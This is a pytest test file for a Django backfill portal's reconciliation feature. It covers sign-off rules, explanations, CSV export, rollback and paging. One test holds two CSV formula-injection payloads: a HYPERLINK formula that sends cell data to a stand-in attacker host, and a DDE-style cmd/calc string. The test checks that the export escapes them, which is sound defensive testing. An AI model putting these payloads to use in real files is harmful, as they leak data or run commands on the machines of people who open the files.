"""Done means reconciled: the manifest, the four numbers, explanations and sign-off."""
from __future__ import annotations

import csv
import io
from datetime import date, datetime, timezone

import pytest

from backfill_portal.backfills.choices import RequestStatus
from backfill_portal.backfills.models import Reconciliation, ReconciliationRow, Verdict
from backfill_portal.recovery.reconciliation import (
    reconciliation_compute,
    reconciliation_signoff,
)
from backfill_portal.core.errors import ConflictError
from backfill_portal.catalog.models import Dataset
from backfill_portal.core.models import AuditEvent
from backfill_portal.execution.models import Run
from backfill_portal.web.demo.sources import correct_source_day
from tests.reconciliation.helpers import DOUBLED_SQL, deploy, run_request

pytestmark = pytest.mark.django_db(transaction=True)


def rows_of(request) -> dict[str, ReconciliationRow]:
    return {r.partition_key: r for r in ReconciliationRow.objects.filter(request=request)}


def test_two_am_incident_doubled_partitions_are_unexplained_and_the_corrected_backfill_matches(personas, ready, api):
    good = run_request(personas, ready, start="2022-09-28", end="2022-10-03")
    assert good.status == RequestStatus.RECONCILING
    good_runs = {r.partition_key: r for r in Run.objects.filter(request=good)}

    # 02:00 - a code change that appends the day's rows a second time is deployed and backfilled.
    deploy(dwd_sql=DOUBLED_SQL)
    doubled = run_request(personas, ready, start="2022-10-01", end="2022-10-03")
    assert doubled.status == RequestStatus.RECONCILING  # every run is green...
    reconciliation_compute(actor=None, request_id=doubled.pk)
    rows = rows_of(doubled)
    assert set(rows) == {"2022-10-01", "2022-10-02", "2022-10-03"}
    for key, row in rows.items():
        # ...but the four numbers are not.
        assert row.verdict == Verdict.UNEXPLAINED
        assert row.before_run_id == good_runs[key].run_id
        assert row.rows_after == 2 * row.rows_before
        assert row.rows_baseline == pytest.approx(row.rows_before, rel=0.3)
        assert row.distinct_keys == row.rows_after and row.null_keys == 0  # keys look fine: that is the trap
        assert row.measure_after == pytest.approx(2 * row.measure_before, rel=1e-6)
        assert row.recomputed is False
        assert any("baseline" in d for d in row.deviations)
    manifest = Reconciliation.objects.get(request=doubled).manifest
    assert manifest["intervals_planned"] == 3 and manifest["runs_created"] == 3 and manifest["versions_published"] == 3
    assert manifest["verdicts"] == {"matched": 0, "explained": 0, "unexplained": 3, "skipped": 0}

    refused = api("olivia").post(f"/api/requests/{doubled.pk}/signoff/", {}, format="json")
    assert refused.status_code == 409
    assert refused.json()["errors"]["intervals"] == ["2022-10-01", "2022-10-02", "2022-10-03"]
    doubled.refresh_from_db()
    assert doubled.status == RequestStatus.RECONCILING

    # The fix is deployed and the range backfilled again: it reconciles as matched.
    deploy()
    corrected = run_request(personas, ready, start="2022-10-01", end="2022-10-03")
    reconciliation_compute(actor=None, request_id=corrected.pk)
    doubled_runs = {r.partition_key: r.run_id for r in Run.objects.filter(request=doubled)}
    for key, row in rows_of(corrected).items():
        assert row.verdict == Verdict.MATCHED, row.deviations
        assert row.before_run_id == doubled_runs[key]  # what readers saw when it was filed
        assert row.rows_after == good_runs[key].version.row_count
        assert row.rows_after == row.rows_before // 2
    done = api("olivia").post(f"/api/requests/{corrected.pk}/signoff/", {"comment": "numbers back"}, format="json")
    assert done.status_code == 200 and done.json()["status"] == "completed"
    event = AuditEvent.objects.get(request_id=corrected.pk, action="request.signoff")
    assert (event.from_state, event.to_state, event.actor_name) == ("reconciling", "completed", "olivia")


def test_source_changed_between_runs_is_labelled_recomputed_and_sign_off_needs_an_explanation(
        personas, ready, warehouse, api):
    run_request(personas, ready, start="2022-10-01", end="2022-10-02")
    added = correct_source_day(warehouse, day=date(2022, 10, 1), factor_category="apparel", seed=3,
                               now=datetime(2022, 10, 15, 8, 0, tzinfo=timezone.utc))
    assert added > 0
    again = run_request(personas, ready, start="2022-10-01", end="2022-10-02")
    body = api("audrey").get(f"/api/requests/{again.pk}/reconciliation/").json()  # computed on first read
    rows = {r["partition_key"]: r for r in body["rows"]}
    changed, same = rows["2022-10-01"], rows["2022-10-02"]
    assert changed["recomputed"] is True and changed["status"] == "unexplained"
    assert changed["measure_after"] != changed["measure_before"]
    assert any("recomputed against current upstream" in d for d in changed["deviations"])
    assert same["recomputed"] is False and same["status"] == "matched"
    assert AuditEvent.objects.filter(request_id=again.pk, action="reconciliation.compute").count() == 1

    # Sign-off is refused, naming the interval; nothing changes.
    with pytest.raises(ConflictError) as refused:
        reconciliation_signoff(actor=personas["olivia"], request_id=again.pk)
    assert refused.value.fields["intervals"] == ["2022-10-01"]
    again.refresh_from_db()
    assert again.status == RequestStatus.RECONCILING
    assert Reconciliation.objects.get(request=again).signed_off_at is None
    assert not AuditEvent.objects.filter(request_id=again.pk, action="request.signoff").exists()

    # An empty explanation is refused; a real one explains the interval.
    empty = api("alice").post(f"/api/requests/{again.pk}/intervals/2022-10-01/explain/", {"explanation": "  "},
                              format="json")
    assert empty.status_code == 400 and "explanation" in empty.json()["errors"]
    assert ReconciliationRow.objects.get(request=again, partition_key="2022-10-01").verdict == Verdict.UNEXPLAINED
    explained = api("alice").post(f"/api/requests/{again.pk}/intervals/2022-10-01/explain/",
                                  {"explanation": "source corrected on 10-15 (apparel refunds)"}, format="json")
    assert explained.status_code == 200 and explained.json()["status"] == "explained"
    event = AuditEvent.objects.get(request_id=again.pk, action="reconciliation.explain")
    assert (event.from_state, event.to_state, event.actor_name) == ("unexplained", "explained", "alice")
    assert event.reason == "source corrected on 10-15 (apparel refunds)"

    # A recompute keeps the explanation; then the owner signs off.
    assert api("alice").post(f"/api/requests/{again.pk}/reconciliation/").status_code == 200
    assert ReconciliationRow.objects.get(request=again, partition_key="2022-10-01").verdict == Verdict.EXPLAINED
    done = api("olivia").post(f"/api/requests/{again.pk}/signoff/", {}, format="json")
    assert done.status_code == 200 and done.json()["status"] == "completed"
    assert AuditEvent.objects.filter(request_id=again.pk, action="request.signoff", to_state="completed").exists()
    # Signed off: the numbers are final.
    assert api("alice").post(f"/api/requests/{again.pk}/reconciliation/").status_code == 409


def test_only_the_target_owner_signs_off_and_an_admin_when_the_owner_filed_it(personas, ready, api):
    theirs = run_request(personas, ready, start="2022-10-01", end="2022-10-01")
    for name in ("alice", "oscar", "audrey"):
        response = api(name).post(f"/api/requests/{theirs.pk}/signoff/", {}, format="json")
        assert response.status_code == 403, name
    assert AuditEvent.objects.filter(request_id=theirs.pk, action="denied.reconciliation.signoff").count() == 3
    theirs.refresh_from_db()
    assert theirs.status == RequestStatus.RECONCILING

    # olivia files on her own dataset: she cannot sign it off, an admin can.
    own = run_request(personas, ready, start="2022-10-02", end="2022-10-02", requester="olivia", approver="admin")
    assert api("olivia").post(f"/api/requests/{own.pk}/signoff/", {}, format="json").status_code == 403
    assert api("admin").post(f"/api/requests/{own.pk}/signoff/", {}, format="json").status_code == 200
    own.refresh_from_db()
    assert own.status == RequestStatus.COMPLETED


def test_manifest_names_skipped_intervals_with_why_and_partitions_another_request_superseded(personas, ready, api):
    first = run_request(personas, ready, start="2022-10-01", end="2022-10-02")
    second = run_request(personas, ready, start="2022-10-02", end="2022-10-02")
    manifest = api("audrey").get(f"/api/requests/{first.pk}/reconciliation/").json()["manifest"]
    (superseded,) = manifest["exceptions"]["superseded_by_another_request"]
    assert superseded["partition_key"] == "2022-10-02" and superseded["by_request"] == second.pk
    assert superseded["by_run_id"] == Run.objects.get(request=second).run_id

    # A cascade that reaches the side-effect node without authorising it skips its
    # intervals (a request for the node itself must authorise it to be filed).
    skipped = run_request(personas, ready, job="dws_sales_daily", start="2022-10-01", end="2022-10-02",
                          approver="sam", cascade="cascade", node_actions={"monthly_summary": "skip"})
    body = api("audrey").get(f"/api/requests/{skipped.pk}/reconciliation/").json()
    effects = [s for s in body["manifest"]["exceptions"]["skipped"] if s["job"] == "notify_finance"]
    assert [s["partition_key"] for s in effects] == ["2022-10-01", "2022-10-02"]
    assert all(s["why"] == "side-effect node not authorised by this request" for s in effects)
    # Skipped by design is not a difference, and not a match either: nothing was compared.
    rows = {(r["job"], r["partition_key"]): r["status"] for r in body["rows"]}
    assert {rows[("notify_finance", day)] for day in ("2022-10-01", "2022-10-02")} == {"skipped"}
    assert body["manifest"]["verdicts"]["unexplained"] == 0
    assert body["manifest"]["verdicts"]["skipped"] == len(body["manifest"]["exceptions"]["skipped"])
    # The owner of the skipped node reviews nothing of theirs: they may not explain the
    # rebuilt rows nor recompute (the exploratory test explained another owner's row).
    assert Dataset.objects.get(name="notify_finance").owner.username == "finn"
    assert api("finn").post(f"/api/requests/{skipped.pk}/reconciliation/").status_code == 403
    explain = api("finn").post(f"/api/requests/{skipped.pk}/intervals/2022-10-01/explain/",
                               {"explanation": "fine", "job": "dws_sales_daily"}, format="json")
    assert explain.status_code == 403
    # It does not hold up the sign-off.
    done = api("sam").post(f"/api/requests/{skipped.pk}/signoff/", {}, format="json")
    assert done.status_code == 200 and done.json()["status"] == "completed"


def test_reconciliation_exports_the_table_and_the_manifest_as_csv(personas, ready, api):
    request = run_request(personas, ready, start="2022-10-01", end="2022-10-02")
    for url in (f"/api/requests/{request.pk}/reconciliation.csv",
                f"/api/requests/{request.pk}/reconciliation/?format=csv"):
        response = api("audrey").get(url)
        assert response.status_code == 200, url
        assert response["Content-Type"].startswith("text/csv")
        lines = list(csv.reader(io.StringIO(response.content.decode())))
        header = lines[0]
        assert header[:5] == ["job", "dataset", "partition_key", "interval_status", "status"]
        table = [dict(zip(header, line)) for line in lines[1:3]]
        assert [t["partition_key"] for t in table] == ["2022-10-01", "2022-10-02"]
        assert all(int(t["rows_after"]) > 0 and t["status"] == "matched" for t in table)
        assert ["intervals_planned", "2"] in lines and ["versions_published", "2"] in lines


def test_reconciliation_csv_writes_a_formula_in_an_explanation_as_text(personas, ready, api):
    run_request(personas, ready, start="2022-09-28", end="2022-10-02")
    deploy(dwd_sql=DOUBLED_SQL)  # numbers that need explaining
    request = run_request(personas, ready, start="2022-10-01", end="2022-10-02")
    malicious = {"2022-10-01": "=HYPERLINK(\"http://evil.example/?d=\"&A1,\"details\")",
                 "2022-10-02": "@SUM(1+1)*cmd|' /C calc'!A0"}
    for key, text in malicious.items():
        response = api("alice").post(f"/api/requests/{request.pk}/intervals/{key}/explain/", {"explanation": text},
                                     format="json")
        assert response.status_code == 200, response.json()
    lines = list(csv.reader(io.StringIO(api("audrey").get(f"/api/requests/{request.pk}/reconciliation.csv")
                                        .content.decode())))
    header = lines[0]
    table = {line[header.index("partition_key")]: dict(zip(header, line)) for line in lines[1:3]}
    for key, text in malicious.items():
        assert table[key]["explanation"] == "'" + text
        assert table[key]["explained_by"] == "alice"
    assert not any(cell.startswith(("=", "+", "@", "\t", "\r")) for line in lines for cell in line)


def test_reconcile_task_runs_twice_safely_and_only_for_a_reconciling_request(personas, ready):
    from backfill_portal.recovery.tasks import reconcile_request

    request = run_request(personas, ready, start="2022-10-01", end="2022-10-01")
    assert reconcile_request.apply(args=[request.pk]).get() == "computed"
    assert reconcile_request.apply(args=[request.pk]).get() == "computed"
    assert ReconciliationRow.objects.filter(request=request).count() == 1
    reconciliation_signoff(actor=personas["olivia"], request_id=request.pk)
    assert reconcile_request.apply(args=[request.pk]).get() == "skipped-completed"
    assert reconcile_request.apply(args=[987654]).get() == "missing"


def test_downstream_visible_value_is_what_the_nearest_downstream_shows_now(personas, ready, warehouse):
    dwd = run_request(personas, ready, start="2022-10-01", end="2022-10-01")
    reconciliation_compute(actor=None, request_id=dwd.pk)
    row = ReconciliationRow.objects.get(request=dwd)
    assert row.downstream_dataset == "dws_sales_daily" and row.downstream_value is None  # nothing built yet
    run_request(personas, ready, job="dws_sales_daily", start="2022-10-01", end="2022-10-01", approver="sam")
    reconciliation_compute(actor=None, request_id=dwd.pk)
    row = ReconciliationRow.objects.get(request=dwd)
    shown = sum(float(r["gmv"]) for r in warehouse.read_partition("dws_sales_daily", "2022-10-01"))
    assert row.downstream_value == pytest.approx(shown, abs=0.01)
    assert row.downstream_value == pytest.approx(row.measure_after, abs=0.05)
    assert row.downstream_reads_after is True


def test_bad_explanations_are_refused_clearly_and_change_nothing(personas, ready, api):
    request = run_request(personas, ready, start="2022-10-01", end="2022-10-01")
    url = f"/api/requests/{request.pk}/intervals/2022-10-01/explain/"
    missing = api("alice").post(f"/api/requests/{request.pk}/intervals/1999-01-01/explain/",
                                {"explanation": "x"}, format="json")
    assert missing.status_code == 404
    assert api("audrey").post(url, {"explanation": "I read everything"}, format="json").status_code == 403
    assert api("outsider").post(url, {"explanation": "x"}, format="json").status_code == 403
    assert AuditEvent.objects.filter(request_id=request.pk, action="denied.reconciliation.explain").count() == 2
    no_field = api("alice").post(url, {}, format="json")
    assert no_field.status_code == 400 and "explanation" in no_field.json()["errors"]
    reconciliation_signoff(actor=personas["olivia"], request_id=request.pk)
    late = api("alice").post(url, {"explanation": "after the fact"}, format="json")
    assert late.status_code == 409
    row = ReconciliationRow.objects.get(request=request)
    assert row.explanation == "" and row.verdict == Verdict.MATCHED
    assert not AuditEvent.objects.filter(request_id=request.pk, action="reconciliation.explain").exists()
    assert api("alice").get(f"/api/requests/{request.pk}/reconciliation/").json()["signed_off_by"] == "olivia"


def test_explaining_for_a_job_outside_the_request_names_the_job_not_the_interval(personas, ready, api):
    request = run_request(personas, ready, start="2022-10-01", end="2022-10-01")
    url = f"/api/requests/{request.pk}/intervals/2022-10-01/explain/"
    for job in ("nope", "page_views_hourly"):  # no such job; a job this request does not cover
        answer = api("alice").post(url, {"explanation": "x", "job": job}, format="json")
        assert answer.status_code == 400, answer.content
        body = answer.json()
        assert body["errors"]["job"] == [f"job {job!r} is not part of request #{request.pk}"]
        assert "has no interval" not in str(body)
    missing = api("alice").post(f"/api/requests/{request.pk}/intervals/1999-01-01/explain/",
                                {"explanation": "x", "job": "dwd_order_items"}, format="json")
    assert missing.status_code == 404
    assert "has no interval '1999-01-01' of job 'dwd_order_items'" in missing.json()["detail"]
    assert ReconciliationRow.objects.get(request=request).explanation == ""


def test_several_intervals_are_explained_with_one_reason_all_or_none(personas, ready):
    from backfill_portal.core.errors import NotFound, PermissionDenied, ValidationError
    from backfill_portal.recovery.reconciliation import intervals_explain

    run_request(personas, ready, start="2022-09-28", end="2022-10-03")
    deploy(dwd_sql=DOUBLED_SQL)
    doubled = run_request(personas, ready, start="2022-10-01", end="2022-10-03")
    reconciliation_compute(actor=None, request_id=doubled.pk)
    picked = [("dwd_order_items", "2022-10-01"), ("dwd_order_items", "2022-10-02")]

    with pytest.raises(ValidationError) as empty:
        intervals_explain(actor=personas["alice"], request_id=doubled.pk, intervals=picked, explanation="  ")
    assert "explanation" in empty.value.fields
    with pytest.raises(ValidationError) as unknown:
        intervals_explain(actor=personas["alice"], request_id=doubled.pk, explanation="x",
                          intervals=picked + [("dwd_order_items", "1999-01-01")])
    assert unknown.value.message == f"request #{doubled.pk} has no interval '1999-01-01' of dwd_order_items"
    assert "intervals" in unknown.value.fields
    with pytest.raises(ValidationError) as stranger:
        intervals_explain(actor=personas["alice"], request_id=doubled.pk, explanation="x",
                          intervals=picked + [("nope", "x")])
    assert stranger.value.message == f"job 'nope' is not part of request #{doubled.pk}"
    with pytest.raises(PermissionDenied):
        intervals_explain(actor=personas["audrey"], request_id=doubled.pk, intervals=picked, explanation="x")
    assert set(ReconciliationRow.objects.filter(request=doubled).values_list("verdict", flat=True)) == {"unexplained"}
    assert not AuditEvent.objects.filter(request_id=doubled.pk, action="reconciliation.explain").exists()

    rows = intervals_explain(actor=personas["alice"], request_id=doubled.pk, intervals=picked,
                             explanation="INC-2211: the append-style load doubled these days; corrected by the next request")
    assert [(r.partition_key, r.verdict, r.explained_by.username) for r in rows] == [
        ("2022-10-01", "explained", "alice"), ("2022-10-02", "explained", "alice")]
    assert rows_of(doubled)["2022-10-03"].verdict == Verdict.UNEXPLAINED
    events = AuditEvent.objects.filter(request_id=doubled.pk, action="reconciliation.explain").order_by("id")
    assert [(e.data["partition"], e.from_state, e.to_state, e.data["together"]) for e in events] == [
        ("2022-10-01", "unexplained", "explained", 2), ("2022-10-02", "unexplained", "explained", 2)]
    assert Reconciliation.objects.get(request=doubled).manifest["verdicts"]["explained"] == 2


def test_a_rollback_after_the_sign_off_is_named_with_what_readers_see_instead(personas, ready, api):
    good = run_request(personas, ready, start="2022-10-01", end="2022-10-02")
    second = run_request(personas, ready, start="2022-10-01", end="2022-10-02")
    reconciliation_signoff(actor=personas["olivia"], request_id=second.pk, comment="fine")
    answer = api("oscar").post(f"/api/requests/{second.pk}/rollback/", {"reason": "wrong day picked"}, format="json")
    assert answer.status_code == 200, answer.content
    good_runs = {r.partition_key: r.run_id for r in Run.objects.filter(request=good)}
    second_runs = {r.partition_key: r.run_id for r in Run.objects.filter(request=second)}
    body = api("audrey").get(f"/api/requests/{second.pk}/reconciliation/").json()
    named = body["manifest"]["exceptions"]["rolled_back"]
    assert [(n["partition_key"], n["run_id"], n["restored_run_id"], n["by"], n["why"]) for n in named] == [
        (day, second_runs[day], good_runs[day], "oscar", "wrong day picked") for day in ("2022-10-01", "2022-10-02")]
    # The manifest's figures say it too: published two, readers see none of them now.
    assert (body["manifest"]["versions_published"], body["manifest"]["versions_current"],
            body["manifest"]["versions_rolled_back"]) == (2, 0, 2)
    lines = list(csv.reader(io.StringIO(api("audrey").get(f"/api/requests/{second.pk}/reconciliation.csv")
                                        .content.decode())))
    assert ["versions_current", "0"] in lines and ["versions_rolled_back", "2"] in lines
    # The sign-off the numbers carry, as the page shows it (the export left it out).
    exported = {line[0]: line[1] for line in lines if len(line) == 2}
    assert (exported["signed_off_by"], exported["signoff_comment"], exported["request_status"]) == (
        "olivia", "fine", "rolled_back")
    assert exported["signed_off_at"] and exported["computed_at"]
    page = web_client(personas["audrey"]).get(f"/requests/{second.pk}/reconciliation/").content.decode()
    assert "(0 read now, 2 rolled back)" in page


def web_client(user):
    from django.test import Client

    client = Client()
    client.force_login(user)
    return client


def test_explaining_an_interval_whose_numbers_match_is_refused_as_for_several(personas, ready, api):
    """One explanation of a matched row was accepted (and audited) while the same row in
    a bulk explanation was refused "nothing to explain"; the page offers neither."""
    request = run_request(personas, ready, start="2022-10-01", end="2022-10-01")
    reconciliation_compute(actor=None, request_id=request.pk)
    assert rows_of(request)["2022-10-01"].verdict == Verdict.MATCHED
    one = api("olivia").post(f"/api/requests/{request.pk}/intervals/2022-10-01/explain/",
                             {"explanation": "looked at it"}, format="json")
    assert one.status_code == 400
    assert "nothing to explain in '2022-10-01'" in one.json()["errors"]["explanation"][0]
    assert rows_of(request)["2022-10-01"].explanation == ""
    assert not AuditEvent.objects.filter(action="reconciliation.explain").exists()


def test_a_second_explanation_keeps_the_one_it_replaces_in_the_audit_log(personas, ready, api):
    run_request(personas, ready, start="2022-09-28", end="2022-10-01")
    deploy(dwd_sql=DOUBLED_SQL)
    doubled = run_request(personas, ready, start="2022-10-01", end="2022-10-01")
    url = f"/api/requests/{doubled.pk}/intervals/2022-10-01/explain/"
    for text in ("late events", "INC-2211: the append doubled the day"):
        assert api("olivia").post(url, {"explanation": text}, format="json").status_code == 200
    first, second = AuditEvent.objects.filter(action="reconciliation.explain").order_by("id")
    assert "replaces" not in first.data
    assert (second.reason, second.data["replaces"]) == ("INC-2211: the append doubled the day", "late events")


def test_viewing_a_reconciliation_recomputes_it_only_when_its_own_partitions_moved(personas, ready, api):
    """The scale QA: any publication in the request's datasets, even outside its range,
    made the next view delete and rewrite every row (5 s and 234 queries for a
    27,000-interval request) and write a compute row as the system's."""
    first = run_request(personas, ready, start="2022-10-01", end="2022-10-02")
    api("audrey").get(f"/api/requests/{first.pk}/reconciliation/")
    computes = AuditEvent.objects.filter(request_id=first.pk, action="reconciliation.compute")
    before = computes.count()
    run_request(personas, ready, start="2022-10-05", end="2022-10-05")  # the same dataset, another day
    body = api("audrey").get(f"/api/requests/{first.pk}/reconciliation/").json()
    assert computes.count() == before and body["manifest"]["exceptions"]["superseded_by_another_request"] == []
    second = run_request(personas, ready, start="2022-10-02", end="2022-10-02")  # one of its own days
    body = api("audrey").get(f"/api/requests/{first.pk}/reconciliation/").json()
    assert computes.count() == before + 1
    assert [s["by_request"] for s in body["manifest"]["exceptions"]["superseded_by_another_request"]] == [second.pk]


def test_the_rows_come_by_verdict_and_a_page_at_a_time_and_a_bad_query_is_refused_before_anything_runs(
        personas, ready, api):
    """The scale QA: a 27,000-interval request's reconciliation was one 17 MB answer, and
    finding what is left to explain meant reading all of it."""
    run_request(personas, ready, start="2022-09-28", end="2022-10-03")
    deploy(dwd_sql=DOUBLED_SQL)
    doubled = run_request(personas, ready, start="2022-10-01", end="2022-10-03")
    url = f"/api/requests/{doubled.pk}/reconciliation/"
    explained = api("olivia").post(f"/api/requests/{doubled.pk}/intervals/2022-10-02/explain/",
                                   {"explanation": "INC-2211: the append doubled the day"}, format="json")
    assert explained.status_code == 200
    client = api("audrey")

    def keys(body):
        return [row["partition_key"] for row in body["rows"]]

    everything = client.get(url).json()
    assert (keys(everything), everything["rows_total"], everything["next"]) == (
        ["2022-10-01", "2022-10-02", "2022-10-03"], 3, None)
    left = client.get(url, {"verdict": "unexplained"}).json()
    assert (keys(left), left["rows_total"], left["next"]) == (["2022-10-01", "2022-10-03"], 2, None)
    assert left["manifest"]["verdicts"] == everything["manifest"]["verdicts"]  # the manifest is the whole request's

    page, seen = client.get(url, {"limit": 1}).json(), []
    while True:
        assert page["rows_total"] == 3 and len(page["rows"]) == 1
        seen += keys(page)
        if page["next"] is None:
            break
        assert "limit=1" in page["next"]
        page = client.get(page["next"]).json()
    assert seen == ["2022-10-01", "2022-10-02", "2022-10-03"]
    second = client.get(url, {"verdict": "unexplained", "limit": 1}).json()
    assert keys(second) == ["2022-10-01"] and "verdict=unexplained" in second["next"]
    assert keys(client.get(second["next"]).json()) == ["2022-10-03"]
    assert keys(client.get(url, {"offset": 2}).json()) == ["2022-10-03"]
    assert keys(client.get(url, {"offset": 9}).json()) == []

    lines = list(csv.reader(io.StringIO(client.get(url, {"format": "csv", "verdict": "explained"}).content.decode())))
    header = lines[0]
    assert [line[header.index("partition_key")] for line in lines[1:lines.index([])]] == ["2022-10-02"]

    computed = Reconciliation.objects.get(request=doubled).computed_at
    computes = AuditEvent.objects.filter(request_id=doubled.pk, action="reconciliation.compute").count()
    for query, field in (("verdict=doubled", "verdict"), ("limit=0", "limit"), ("limit=5001", "limit"),
                         ("limit=ten", "limit"), ("offset=-1", "offset"), ("verdct=unexplained", "verdct")):
        for method in (client.get, api("olivia").post):
            refused = method(f"{url}?{query}")
            assert refused.status_code == 400, (query, method)
            assert field in refused.json()["errors"], refused.json()
    assert client.post(f"{url}?limit=0").status_code == 403  # an auditor may not recompute, whatever the query
    assert Reconciliation.objects.get(request=doubled).computed_at == computed  # the refused POSTs computed nothing
    assert AuditEvent.objects.filter(request_id=doubled.pk, action="reconciliation.compute").count() == computes
